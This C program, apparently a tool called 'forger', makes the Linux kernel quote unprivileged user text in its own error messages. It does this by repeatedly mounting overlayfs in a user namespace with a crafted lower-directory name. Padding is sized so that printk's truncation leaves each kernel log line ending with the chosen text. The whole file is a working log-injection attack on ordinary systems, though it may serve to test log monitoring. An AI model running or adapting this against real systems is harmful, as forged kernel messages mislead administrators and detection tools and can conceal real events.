/*
 * Makes the kernel quote a string of an unprivileged user in a message of its own: overlayfs, which may be mounted in
 * a user namespace, prints the name of a lower directory that it cannot resolve, facility kern, level 3.
 *
 *   forger TIMES PADDING TEXT TAIL: the name is PADDING bytes, a blank, TEXT, TAIL bytes. A long line is cut by
 *   printk, so that with the right padding it ends with TEXT.
 *
 * Exit status: 0 as mount(2) failed each time with ENOENT or ENAMETOOLONG, as it does where the message was printed;
 * 2 where there is no user namespace, 3 where there is no overlayfs in one.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <unistd.h>

#define NOBODY 65534
#define OPTIONS 4096

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd == -1 || write(fd, text, strlen(text)) == -1) {
		perror(path);
		exit(2);
	}
	close(fd);
}

/* Appends bytes that are a path of existing length: no component is longer than NAME_MAX. */
static size_t pad(char *at, size_t length, char byte)
{
	for (size_t i = 0; i < length; i++)
		at[i] = i % 200 == 0 ? '/' : byte;
	return length;
}

int main(int argc, char **argv)
{
	static char options[OPTIONS] = "lowerdir=";
	size_t end = strlen(options);
	char map[32];

	if (argc != 5)
		return 1;
	size_t padding = strtoul(argv[2], NULL, 10), tail = strtoul(argv[4], NULL, 10);

	if (end + padding + 1 + 2 * strlen(argv[3]) + tail >= OPTIONS)
		return 1;
	if (getuid() == 0 && (setgroups(0, NULL) || setgid(NOBODY) || setuid(NOBODY)))
		return 1;
	/* Lost with the change of user; without it /proc/self is root's. */
	prctl(PR_SET_DUMPABLE, 1);
	uid_t uid = getuid();
	gid_t gid = getgid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) {
		perror("unshare");
		return 2;
	}
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", uid);
	put("/proc/self/uid_map", map);
	snprintf(map, sizeof map, "0 %u 1", gid);
	put("/proc/self/gid_map", map);

	end += pad(options + end, padding, 'a');
	options[end++] = ' ';
	for (const char *byte = argv[3]; *byte; byte++) {
		/* The separators of options and of directories. */
		if (*byte == ',' || *byte == ':' || *byte == '\\')
			options[end++] = '\\';
		options[end++] = *byte;
	}
	end += pad(options + end, tail, 'z');

	for (unsigned long times = strtoul(argv[1], NULL, 10); times > 0; times--) {
		if (mount("none", "/mnt", "overlay", 0, options) == 0)
			return 1;
		if (errno != ENOENT && errno != ENAMETOOLONG) {
			perror("mount");
			return 3;
		}
	}
	return 0;
}
